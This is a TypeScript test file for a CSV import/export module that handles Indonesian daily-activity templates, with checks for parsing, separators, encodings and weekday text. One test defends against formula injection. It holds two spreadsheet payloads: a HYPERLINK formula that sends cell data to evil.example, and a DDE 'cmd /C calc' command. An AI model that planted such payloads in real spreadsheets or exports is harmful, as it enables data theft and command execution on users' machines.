import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  decodeCsvBytes, detectSeparator, formatCsv, formatWeekdays, guardCell, nameFromKegiatan, parseCsv, parseTemplatesCsv, parseWeekdays,
  templatesToCsv, unguardCell, type CsvImport, type CsvRowError, type CsvSeparator,
} from '@/utils/templates/csv';
import { validateTemplateFields, type TemplateFields } from '@/utils/templates/validate';
import { PROPERTY_TIMEOUT_MS } from '../../helpers/property';

const HEADER = 'Rencana Aksi;Tanggal;Jam Mulai;Jam Selesai;Kegiatan Harian;Realisasi;Satuan;Bukti Dukung';

function templates(r: CsvImport): TemplateFields[] {
  if (!r.ok) throw new Error(`expected ok, got ${JSON.stringify(r.errors)}`);
  return r.templates;
}
function errors(r: CsvImport): CsvRowError[] {
  if (r.ok) throw new Error('expected errors');
  expect(Object.keys(r)).toEqual(['ok', 'errors']);
  return r.errors;
}
const brief = (r: CsvImport): Array<[number, string | undefined, string]> => errors(r).map((e) => [e.row, e.column, e.code]);

const mengajar: TemplateFields = {
  name: 'Mengajar kelas 7A; "IPA"',
  rencanaAksi: 'Melaksanakan pembelajaran',
  jamMulai: '07:30',
  jamSelesai: '09:00',
  kegiatan: 'Mengajar kelas 7A; "IPA"',
  realisasi: 2,
  satuan: 'JP',
  buktiDukung: 'https://drive.google.com/drive/folders/abc',
  weekdays: [1, 2, 3, 4, 5],
};

describe('parseTemplatesCsv', () => {
  it('reads a ; file with BOM, CRLF, header, quotes and Excel times', () => {
    const text = `\uFEFF${HEADER}\r\n`
      + 'Melaksanakan pembelajaran;;7:30;09.00;"Mengajar kelas 7A; ""IPA""";2;JP;https://drive.google.com/drive/folders/abc\r\n'
      + '\r\n'
      + 'Rapat dinas;;13.00;14:30:00;Rapat koordinasi {hari};1;Kegiatan;\r\n';
    expect(parseTemplatesCsv(text)).toEqual({
      ok: true,
      separator: ';',
      ignoredColumns: [],
      templates: [
        mengajar,
        {
          name: 'Rapat koordinasi {hari}', rencanaAksi: 'Rapat dinas', jamMulai: '13:00', jamSelesai: '14:30',
          kegiatan: 'Rapat koordinasi {hari}', realisasi: 1, satuan: 'Kegiatan', buktiDukung: '', weekdays: [1, 2, 3, 4, 5],
        },
      ],
    });
  });

  it('reads a , file without a header, LF only, with a quoted line break', () => {
    const text = 'Melaksanakan pembelajaran,,0730,0900,"Mengajar kelas 7A; ""IPA""",2,JP,https://drive.google.com/drive/folders/abc\n'
      + '"Menyusun, laporan",,8,10,"Menyusun laporan\nbulanan",1,Dokumen,,Laporan,Senin-Rabu\n';
    const r = parseTemplatesCsv(text);
    expect(r.ok && r.separator).toBe(',');
    expect(templates(r)).toEqual([
      mengajar,
      {
        name: 'Laporan', rencanaAksi: 'Menyusun, laporan', jamMulai: '08:00', jamSelesai: '10:00',
        kegiatan: 'Menyusun laporan bulanan', realisasi: 1, satuan: 'Dokumen', buktiDukung: '', weekdays: [1, 2, 3],
      },
    ]);
  });

  it('reads a tab-separated file and Excel\'s sep= line', () => {
    const tsv = `${HEADER.replace(/;/g, '\t')}\nRA\t\t7:00\t8:00\tK\t1\t\t\n`;
    expect(templates(parseTemplatesCsv(tsv))[0]?.jamMulai).toBe('07:00');
    const withSep = `sep=,\r\n${HEADER.replace(/;/g, ',')}\r\nRA,,7:00,8:00,"K; x",1,,\r\n`;
    expect(templates(parseTemplatesCsv(withSep))[0]?.kegiatan).toBe('K; x');
  });

  it('matches header names loosely, in any order, and lists unknown columns', () => {
    const text = 'No;KEGIATAN HARIAN;  rencana_aksi ;Jam Mulai (HH:MM);jam-selesai;REALISASI;Nama;Hari Berlaku\n'
      + '1;Piket;Piket sekolah;6.45;7.15;1;Piket pagi;Sabtu\n';
    expect(parseTemplatesCsv(text)).toEqual({
      ok: true, separator: ';', ignoredColumns: ['No'],
      templates: [{
        name: 'Piket pagi', rencanaAksi: 'Piket sekolah', jamMulai: '06:45', jamSelesai: '07:15', kegiatan: 'Piket',
        realisasi: 1, satuan: '', buktiDukung: '', weekdays: [6],
      }],
    });
  });

  it('derives weekdays: Hari first, else the weekday of Tanggal, else Mon–Fri or the given default', () => {
    // 2026-11-28 is a Saturday, 2026-11-29 a Sunday.
    const text = `${HEADER};Nama Template;Hari\n`
      + 'RA;2026-11-28;7:00;8:00;A;1;;;;Senin\n'
      + 'RA;29/11/2026;7:00;8:00;B;1;;;;\n'
      + 'RA;;7:00;8:00;C;1;;;;\n';
    expect(templates(parseTemplatesCsv(text)).map((t) => [t.kegiatan, t.weekdays])).toEqual([
      ['A', [1]], ['B', [7]], ['C', [1, 2, 3, 4, 5]],
    ]);
    const sixDays = parseTemplatesCsv(text, { defaultWeekdays: [1, 2, 3, 4, 5, 6] });
    expect(templates(sixDays)[2]?.weekdays).toEqual([1, 2, 3, 4, 5, 6]);
  });

  it('turns rows differing only by Tanggal into one template for all their weekdays', () => {
    // 2026-11-23 … 2026-11-27 is Monday … Friday.
    const rows = ['23', '24', '25', '26', '27'].map((d) => `RA;${d}-11-2026;7:30;8:00;Apel pagi;1;Kegiatan;`);
    const text = [HEADER, ...rows, 'RA;2026-11-25;7:30;8:00;Rapat;1;Kegiatan;', 'RA;2026-11-30;7:30;8:00;Apel pagi;1;Kegiatan;'].join('\n');
    expect(templates(parseTemplatesCsv(text)).map((t) => [t.kegiatan, t.weekdays])).toEqual([
      ['Apel pagi', [1, 2, 3, 4, 5]],
      ['Rapat', [3]],
    ]);
  });

  it('does not merge rows whose weekdays come from Hari, even if identical', () => {
    const text = `${HEADER};Nama Template;Hari\nRA;;7:30;8:00;A;1;;;X;Senin\nRA;;7:30;8:00;A;1;;;X;Senin\n`;
    expect(templates(parseTemplatesCsv(text))).toHaveLength(2);
  });

  it('names a template after a long Kegiatan, cut at a word', () => {
    const long = 'Melaksanakan pembelajaran tatap muka mata pelajaran IPA di kelas 7A dan 7B';
    const r = parseTemplatesCsv(`${HEADER}\nRA;;7:30;8:00;${long};1;;\n`);
    expect(templates(r)[0]?.name).toBe('Melaksanakan pembelajaran tatap muka mata pelajaran IPA di…');
    expect(nameFromKegiatan('Singkat')).toBe('Singkat');
    expect(nameFromKegiatan('x'.repeat(80))).toBe(`${'x'.repeat(59)}…`);
  });

  it('reports every bad row with its file line and column, and imports nothing', () => {
    const text = [
      HEADER, // line 1
      'RA;;7:30;8:00;Baik;1;;', // 2: fine
      'RA;2025-02-30;25:00;8:00;Tanggal dan jam salah;1;;', // 3
      '', // 4
      'RA;;10:00;9:00;"Jam selesai', // 5: a record spanning lines 5–6
      'lebih awal";0;;drive.google.com/x', // 6
      ';;7:30;8:00;{tgl};1;;', // 7
    ].join('\r\n');
    const result = parseTemplatesCsv(text);
    expect(errors(result).map((e) => [e.row, e.column, e.code])).toEqual([
      [3, 'Tanggal', 'template_csv_error_date_invalid'],
      [3, 'Jam Mulai', 'template_error_time_invalid'],
      [5, 'Jam Selesai', 'template_error_time_order'],
      [5, 'Realisasi', 'template_error_realisasi_invalid'],
      [5, 'Bukti Dukung', 'template_error_url_invalid'],
      [7, 'Rencana Aksi', 'template_error_rencana_aksi_required'],
      [7, 'Kegiatan Harian', 'template_error_unknown_variable'],
    ]);
    const unknown = errors(result).at(-1)!;
    expect(unknown.detail).toContain('{tanggal_panjang}');
    expect(unknown.params?.[0]).toBe('{tgl}');
    expect(errors(result)[0]?.detail).toBe('2025-02-30');
  });

  it('does not take a data row for a header even if it holds column names', () => {
    const r = parseTemplatesCsv('Rencana Aksi;;7:30;8:00;Kegiatan;1;Satuan;\n');
    expect(templates(r)[0]).toMatchObject({ rencanaAksi: 'Rencana Aksi', kegiatan: 'Kegiatan', satuan: 'Satuan' });
  });

  it('reports a bad Hari, and too many columns', () => {
    const text = `${HEADER};Nama Template;Hari\nRA;;7:30;8:00;A;1;;;;Senen\nRA;;7:30;8:00;A;1;;;;Senin;extra\nRA;;7:30;8:00;A;1;;;;Senin;;\n`;
    expect(brief(parseTemplatesCsv(text))).toEqual([
      [2, 'Hari', 'template_error_weekdays_invalid'],
      [3, undefined, 'template_csv_error_too_many_columns'],
    ]);
    expect(brief(parseTemplatesCsv('RA;;7:30;8:00;A;1;;;N;Senin;x\n'))).toEqual([[1, undefined, 'template_csv_error_too_many_columns']]);
  });

  it('reports an empty Kegiatan once, not also a missing name', () => {
    expect(brief(parseTemplatesCsv(`${HEADER}\nRA;;7:30;8:00;;1;;\n`))).toEqual([[2, 'Kegiatan Harian', 'template_error_kegiatan_required']]);
    // A blank Nama Template is no error: the name comes from Kegiatan Harian.
    expect(templates(parseTemplatesCsv(`${HEADER};Nama Template\nRA;;7:30;8:00;Piket;1;;;   \n`))[0]?.name).toBe('Piket');
  });

  it('reports file-level problems', () => {
    expect(brief(parseTemplatesCsv(''))).toEqual([[1, undefined, 'template_csv_error_empty']]);
    expect(brief(parseTemplatesCsv('\uFEFF\r\n \r\n'))).toEqual([[1, undefined, 'template_csv_error_empty']]);
    expect(brief(parseTemplatesCsv(`${HEADER}\r\n;;;;;;;\r\n`))).toEqual([[1, undefined, 'template_csv_error_empty']]);
    expect(brief(parseTemplatesCsv('\n\nhanya satu kolom\n'))).toEqual([[3, undefined, 'template_csv_error_separator']]);
    expect(brief(parseTemplatesCsv(`${HEADER}\nRA;;7:30;8:00;"Tidak ditutup;1;;\nRA;;7:30;8:00;B;1;;\n`)))
      .toEqual([[2, undefined, 'template_csv_error_unclosed_quote']]);
    const missing = errors(parseTemplatesCsv('Rencana Aksi;Jam Mulai;Kegiatan;Satuan\nRA;7:00;K;JP\n'));
    expect(missing.map((e) => [e.row, e.code, e.params])).toEqual([
      [1, 'template_csv_error_missing_column', ['Jam Selesai']],
      [1, 'template_csv_error_missing_column', ['Realisasi']],
    ]);
    const twice = errors(parseTemplatesCsv(`${HEADER};Kegiatan\nRA;;7:00;8:00;K;1;;;K\n`));
    expect(twice.map((e) => [e.code, e.params])).toEqual([['template_csv_error_duplicate_column', ['Kegiatan Harian']]]);
  });

  it('imports nothing when any one row of a valid file is broken', { timeout: PROPERTY_TIMEOUT_MS }, () => {
    const base: TemplateFields[] = Array.from({ length: 6 }, (_, i) => ({ ...mengajar, name: `T${i}`, kegiatan: `K${i}` }));
    fc.assert(fc.property(fc.integer({ min: 0, max: 5 }), fc.constantFrom('25:00', '7:61', 'jam 7'), (broken, time) => {
      const lines = templatesToCsv(base).split('\r\n');
      lines[broken + 1] = lines[broken + 1]!.replace('07:30', time);
      const result = parseTemplatesCsv(lines.join('\r\n'));
      expect(brief(result)).toEqual([[broken + 2, 'Jam Mulai', 'template_error_time_invalid']]);
    }));
  });
});

describe('templatesToCsv', () => {
  it('writes BOM, header, CRLF rows, quoting where needed', () => {
    const csv = templatesToCsv([mengajar, { ...mengajar, name: 'Sabtu', kegiatan: 'Piket, pagi', weekdays: [6], buktiDukung: '' }]);
    expect(csv).toBe(
      '\uFEFFRencana Aksi;Tanggal;Jam Mulai;Jam Selesai;Kegiatan Harian;Realisasi;Satuan;Bukti Dukung;Nama Template;Hari\r\n'
      + 'Melaksanakan pembelajaran;;07:30;09:00;"Mengajar kelas 7A; ""IPA""";2;JP;https://drive.google.com/drive/folders/abc;"Mengajar kelas 7A; ""IPA""";Senin-Jumat\r\n'
      + 'Melaksanakan pembelajaran;;07:30;09:00;Piket, pagi;2;JP;;Sabtu;Sabtu\r\n',
    );
  });

  it('quotes the comma with a , separator', () => {
    const csv = templatesToCsv([{ ...mengajar, kegiatan: 'a, b; c', weekdays: [1, 3, 5] }], ',');
    expect(csv.split('\r\n')[1]).toBe(
      'Melaksanakan pembelajaran,,07:30,09:00,"a, b; c",2,JP,https://drive.google.com/drive/folders/abc,"Mengajar kelas 7A; ""IPA""","Senin, Rabu, Jumat"',
    );
  });

  it('neutralises formula cells with a leading apostrophe (formula injection), and import takes it off again', () => {
    const evil: TemplateFields = {
      ...mengajar,
      rencanaAksi: '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
      kegiatan: '+1+cmd|\'/C calc\'!A0',
      satuan: '-2+3',
      name: '@SUM(1)',
    };
    const csv = templatesToCsv([evil]);
    expect(csv.split('\r\n')[1]).toBe(
      '"\'=HYPERLINK(""https://evil.example/?""&A1,""Klik"")";;07:30;09:00;\'+1+cmd|\'/C calc\'!A0;2;\'-2+3;https://drive.google.com/drive/folders/abc;\'@SUM(1);Senin-Jumat',
    );
    expect(parseTemplatesCsv(csv)).toEqual({ ok: true, templates: [evil], separator: ';', ignoredColumns: [] });
    // Harmless text is written as it is; an apostrophe the user typed survives the round trip.
    expect(guardCell('Rapat - koordinasi')).toBe('Rapat - koordinasi');
    expect(guardCell('  =1+1')).toBe("'  =1+1");
    expect(guardCell('\tx')).toBe("'\tx");
    expect(guardCell("'=1")).toBe("''=1");
    expect(unguardCell("''=1")).toBe("'=1");
    expect(unguardCell("'Jum'at")).toBe("'Jum'at");
    expect(unguardCell("'-")).toBe('-');
  });

  it('never writes a cell a spreadsheet would evaluate, and guarding is undone exactly', { timeout: PROPERTY_TIMEOUT_MS }, () => {
    const cell = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', "'", ' ', '\t', '\r', '\n', 'a', '1') });
    fc.assert(fc.property(cell, (c) => {
      const g = guardCell(c);
      expect(g).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
      expect(unguardCell(g)).toBe(c);
    }), { numRuns: 5000 });
  });

  it('round-trips random valid templates through every separator', { timeout: PROPERTY_TIMEOUT_MS }, () => {
    const piece = fc.constantFrom('Rapat', 'kelas 7A', ' ', ';', ',', '"', '""', '\n', '\r\n', '\t', '{tanggal}', '{{', '}}', 'é', 'Jum\'at', '=1+1', '-', '@', '+', "'", "'=");
    const text = fc.tuple(fc.constantFrom('A', 'Laporan', 'x', '=', '-', "'", "'-", '@'), fc.array(piece, { maxLength: 8 })).map(([a, p]) => a + p.join(''));
    const minute = fc.integer({ min: 0, max: 23 * 60 + 59 });
    const style = fc.constantFrom((h: number, m: number) => `${h}:${String(m).padStart(2, '0')}`, (h: number, m: number) => `${String(h).padStart(2, '0')}.${String(m).padStart(2, '0')}`);
    const draft = fc.record({
      name: text, rencanaAksi: text, kegiatan: text,
      satuan: fc.oneof(fc.constant(''), text),
      times: fc.tuple(minute, minute).filter(([a, b]) => a !== b).map(([a, b]) => [Math.min(a, b), Math.max(a, b)] as const),
      style,
      realisasi: fc.oneof(fc.integer({ min: 1, max: 100000 }), fc.integer({ min: 1, max: 99 }).map(String)),
      buktiDukung: fc.oneof(fc.constantFrom('', 'https://drive.google.com/file/d/1A/view?usp=sharing', 'http://x.id/a;b,"c"', 'https://x.id/{tanggal_iso}'), fc.webUrl()),
      weekdays: fc.subarray([1, 2, 3, 4, 5, 6, 7], { minLength: 1 }),
    }).map(({ times, style: fmt, ...d }) => validateTemplateFields({
      ...d, jamMulai: fmt(Math.floor(times[0] / 60), times[0] % 60), jamSelesai: fmt(Math.floor(times[1] / 60), times[1] % 60),
    })).filter((r) => r.ok).map((r) => (r.ok ? r.template : (undefined as never)));
    const sep = fc.constantFrom<CsvSeparator>(';', ',', '\t');
    fc.assert(fc.property(fc.array(draft, { minLength: 1, maxLength: 5 }), sep, (list, s) => {
      expect(parseTemplatesCsv(templatesToCsv(list, s))).toEqual({ ok: true, templates: list, separator: s, ignoredColumns: [] });
    }), { numRuns: 100 });
  });
});

describe('plain CSV', () => {
  it('parses quotes, doubled quotes, line breaks in quotes, CR, CRLF, text after a closing quote', () => {
    const r = parseCsv('a;"b;""c""\r\nd";e\r\n"x"y;\rz', ';');
    expect(r).toEqual({
      ok: true,
      records: [
        { line: 1, cells: ['a', 'b;"c"\r\nd', 'e'] },
        { line: 3, cells: ['xy', ''] },
        { line: 4, cells: ['z'] },
      ],
    });
  });

  it('round-trips any cells', { timeout: PROPERTY_TIMEOUT_MS }, () => {
    const cell = fc.string({ unit: fc.constantFrom('a', ' ', ';', ',', '\t', '"', '\n', '\r', 'é', '=', '-', '@', '+', "'") });
    const row = fc.array(cell, { minLength: 2, maxLength: 5 });
    fc.assert(fc.property(fc.array(row, { minLength: 1, maxLength: 5 }), fc.constantFrom<CsvSeparator>(';', ',', '\t'), (rows, sep) => {
      const r = parseCsv(formatCsv(rows, sep), sep);
      expect(r.ok && r.records.map((x) => x.cells)).toEqual(rows);
    }));
  });

  it('detects the separator from the first line', () => {
    expect(detectSeparator(`${HEADER}\n`)).toBe(';');
    expect(detectSeparator('RA,,7:30,8:00,"a; b; c; d; e; f; g; h; i",1,,\n')).toBe(',');
    expect(detectSeparator('RA;;7:30;8:00;Rapat, rapat, rapat, rapat, rapat, rapat, rapat, rapat, rapat;1;;\n')).toBe(';');
    expect(detectSeparator('\n\na,b\n')).toBe(',');
    // Both fit the first line; the other lines decide.
    const first = 'RA;;7:30;8:00;Rapat, rapat, rapat, rapat, rapat, rapat, rapat, rapat;1;;'; // 7 of each
    expect(detectSeparator(`${first}\nRA,,7:30,8:00,K,1,,\nRA,,7:30,8:00,K,1,,\n`)).toBe(',');
    expect(detectSeparator(`${first}\nRA;;7:30;8:00;K;1;;\n`)).toBe(';');
    expect(detectSeparator('abc\n')).toBeNull();
  });
});

describe('decodeCsvBytes', () => {
  it('reads UTF-8 with its BOM kept for the parser, else Windows-1252', () => {
    expect(decodeCsvBytes(new Uint8Array([0xef, 0xbb, 0xbf, 0x4a, 0x75, 0x6d, 0xe2, 0x80, 0x99, 0x61, 0x74]))).toBe('\uFEFFJum’at');
    // "Café – 1" as Excel writes it in Windows-1252: é = E9, en dash = 96.
    expect(decodeCsvBytes(new Uint8Array([0x43, 0x61, 0x66, 0xe9, 0x20, 0x96, 0x20, 0x31]))).toBe('Café – 1');
    // Jum’at with a Windows-1252 right single quote (92), € (80) and Ÿ (9F).
    expect(decodeCsvBytes(new Uint8Array([0x4a, 0x75, 0x6d, 0x92, 0x61, 0x74, 0x80, 0x9f]))).toBe('Jum’at€Ÿ');
  });

  it('decodes what templatesToCsv wrote so that it parses back', () => {
    const bytes = new TextEncoder().encode(templatesToCsv([mengajar]));
    expect(templates(parseTemplatesCsv(decodeCsvBytes(bytes)))).toEqual([mengajar]);
  });
});

describe('weekdays text', () => {
  it('formats runs as ranges', () => {
    expect(formatWeekdays([1, 2, 3, 4, 5])).toBe('Senin-Jumat');
    expect(formatWeekdays([5, 3, 1])).toBe('Senin, Rabu, Jumat');
    expect(formatWeekdays([1, 2, 6, 7])).toBe('Senin, Selasa, Sabtu, Minggu');
    expect(formatWeekdays([1, 2, 3, 5, 6, 7])).toBe('Senin-Rabu, Jumat-Minggu');
  });

  it('parses names, numbers, ranges and lists', () => {
    expect(parseWeekdays('Senin-Jumat')).toEqual([1, 2, 3, 4, 5]);
    expect(parseWeekdays('senin s/d kamis')).toEqual([1, 2, 3, 4]);
    expect(parseWeekdays('Senin sampai Rabu, Sabtu')).toEqual([1, 2, 3, 6]);
    expect(parseWeekdays("Jum'at dan Sabtu")).toEqual([5, 6]);
    expect(parseWeekdays('Jum’at')).toEqual([5]);
    expect(parseWeekdays('1-5')).toEqual([1, 2, 3, 4, 5]);
    expect(parseWeekdays('Mon, Wed / fri')).toEqual([1, 3, 5]);
    expect(parseWeekdays('Ahad')).toEqual([7]);
    for (const bad of ['', 'Senen', 'Jumat-Senin', '0', '8', 'Senin-', '1-2-3']) expect(parseWeekdays(bad), bad).toBeNull();
  });

  it('reads back what it writes', { timeout: PROPERTY_TIMEOUT_MS }, () => {
    fc.assert(fc.property(fc.subarray([1, 2, 3, 4, 5, 6, 7], { minLength: 1 }), (days) => {
      expect(parseWeekdays(formatWeekdays(days))).toEqual(days);
    }));
  });
});
